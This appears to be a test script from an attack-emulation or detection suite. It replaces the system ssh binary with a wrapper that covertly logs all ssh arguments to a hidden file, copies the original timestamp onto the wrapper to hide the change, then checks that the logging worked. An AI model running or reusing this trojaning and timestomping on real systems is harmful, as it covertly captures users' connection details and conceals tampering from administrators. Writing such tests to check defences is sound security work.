#!/bin/sh
. /opt/case/case.sh

mv /usr/bin/ssh /usr/bin/.ssh-real
cat >/usr/bin/ssh <<'EOF'
#!/bin/sh
echo "$*" >>/var/tmp/.ssh-log
exec /usr/bin/.ssh-real "$@"
EOF
chmod 755 /usr/bin/ssh
touch -r /usr/bin/.ssh-real /usr/bin/ssh
ssh -V 2>/dev/null
grep -q -- -V /var/tmp/.ssh-log
took_place
